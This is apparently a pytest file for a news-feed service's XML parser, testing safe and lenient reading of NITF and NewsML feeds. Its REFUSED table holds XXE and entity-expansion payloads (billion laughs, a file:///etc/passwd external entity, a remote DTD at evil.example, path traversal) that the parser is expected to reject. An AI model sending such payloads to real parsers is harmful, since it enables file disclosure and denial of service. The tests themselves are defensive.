"""XML is read safely and leniently."""

import pytest

from worker.formats import decode, xml
from worker.formats.errors import FormatError
from worker.model import Decoded, Raw
from worker.outcome import Reason, Reject

BODY = (
    "<nitf><body><body.head><hedline><hl1>H</hl1></hedline></body.head><body.content><p>x&e;</p></body.content></body></nitf>"
)

REFUSED = {
    "entity": '<!DOCTYPE nitf [<!ENTITY e "boom">]>',
    "billion laughs": '<!DOCTYPE nitf [<!ENTITY a "ha"><!ENTITY e "&a;&a;&a;&a;">]>',
    "external entity": '<!DOCTYPE nitf [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    "remote parameter entity": '<!DOCTYPE nitf [<!ENTITY % e SYSTEM "http://evil.example/x.dtd"> %e;]>',
    "absolute parameter entity": '<!DOCTYPE nitf [<!ENTITY % e SYSTEM "/etc/x.dtd"> %e;]>',
    "parameter entity up a folder": '<!DOCTYPE nitf [<!ENTITY % e SYSTEM "../x.dtd"> %e;]>',
    "quoted parameter entity": "<!DOCTYPE nitf [<!ENTITY % e \"<!ENTITY f 'x'>\"> %e;]>",
    "element declaration with an entity": "<!DOCTYPE nitf [<!ELEMENT nitf %a;>]>",
    "attribute default": '<!DOCTYPE nitf [<!ATTLIST nitf a CDATA "x">]>',
    "open subset": "<!DOCTYPE nitf [",
    "behind a comment": '<!-- > --><!DOCTYPE nitf [<!ENTITY e "boom">]>',
    "behind an instruction": '<?x y?><!DOCTYPE nitf PUBLIC "a" "b" [<!ENTITY e "boom">]>',
}


@pytest.mark.parametrize("name", REFUSED)
def test_declarations_of_its_own_are_refused(name: str) -> None:
    """A document that declares entities or anything else is refused as invalid, and nothing is expanded."""
    found = decode(Raw(value=(REFUSED[name] + BODY).encode(), content_type="application/nitf+xml"))

    assert isinstance(found, Reject)
    assert found.reason is Reason.INVALID


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE nitf SYSTEM "nitf-3-6.dtd">',
        '<!DOCTYPE nitf PUBLIC "-//IPTC//DTD NITF 3.6//EN" "http://www.iptc.org/std/NITF/3.6/nitf-3-6.dtd">',
        "<!DOCTYPE nitf>",
        '<!DOCTYPE nitf SYSTEM "n.dtd" [<!ENTITY % x SYSTEM "nitf-3-0.dtd"> %x;]>',
        "<!-- c -->\n<!DOCTYPE nitf>",
        '<!DOCTYPE nitf SYSTEM "n.dtd" [ <!ELEMENT body (body.content)><!ELEMENT p (#PCDATA)>]>',
    ],
)
def test_the_document_types_of_feeds_are_read(doctype: str) -> None:
    """A document type that only names files is taken out, and nothing is fetched."""
    root, _ = xml.parse((doctype + BODY.replace("&e;", "")).encode())

    assert root.tag == "nitf"


def test_words_of_a_document_type_in_a_story_do_no_harm() -> None:
    """A story that quotes a declaration is read."""
    root, warnings = xml.parse(b"<nitf><p><![CDATA[<!DOCTYPE x [<!ENTITY e 'y'>]>]]></p></nitf>")

    assert "ENTITY" in xml.text_of(root)
    assert warnings == []


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (b"<a>R&D and AT&T</a>", "R&D and AT&T"),
        (b"<a>caf&eacute;&nbsp;au lait</a>", "café au lait"),
        (b"<a>bell\x07 and &#7;</a>", "bell and"),
        (b"<a>&unknown; word</a>", "&unknown; word"),
    ],
)
def test_slips_of_feeds_are_mended(value: bytes, text: str) -> None:
    """Bare ampersands, names of HTML characters and control characters are mended, with a warning."""
    root, warnings = xml.parse(value)

    assert xml.text_of(root) == text
    assert warnings == ["XML mended: characters or references that XML does not allow"]


@pytest.mark.parametrize(
    ("value", "reason"),
    [
        (b"<nitf><p></nitf>", Reason.UNDECODABLE),
        (b"<nitf>" + b"<p>" * 200 + b"</p>" * 200 + b"</nitf>", Reason.INVALID),
        (b"<nitf " + b" ".join(b'a%d="1"' % n for n in range(1200)) + b"/>", Reason.INVALID),
        (b"<nitf>" + b"<p/>" * 200_001 + b"</nitf>", Reason.TOO_LARGE),
        (b"<nitf>" + b"x" * 12_000_001 + b"</nitf>", Reason.TOO_LARGE),
    ],
    ids=["broken", "deep", "attributes", "tags", "bytes"],
)
def test_bounds_hold(value: bytes, reason: Reason) -> None:
    """What is broken, too deep, or too large is refused with its reason."""
    with pytest.raises(FormatError) as error:
        xml.parse(value)

    assert error.value.reason is reason


def test_namespaces_do_not_matter() -> None:
    """A feed without the namespace, or with a prefix, is read as the one with it."""
    plain, prefixed = (
        decode(Raw(value=text.encode()))
        for text in (
            "<newsItem guid='g' version='1'><contentMeta><headline>H</headline></contentMeta></newsItem>",
            (
                "<n:newsItem xmlns:n='http://iptc.org/std/nar/2006-10-01/' guid='g' version='1'><n:contentMeta><n:headline>H</n:headline>"
                "</n:contentMeta></n:newsItem>"
            ),
        )
    )

    assert plain == prefixed
    assert not isinstance(plain, Reject)
    assert isinstance(plain[0], Decoded)
    assert plain[0].headline == "H"


def test_words_parted_by_elements_are_not_glued() -> None:
    """Lines of a headline and paragraphs of a note keep a blank between them; marked words do not get one."""
    root, _ = xml.parse(b"<a><b>One<br/>two</b><c>Th<em>r</em>ee</c></a>")

    assert xml.text_of(root.find("b")) == "One two"
    assert xml.text_of(root.find("c")) == "Three"
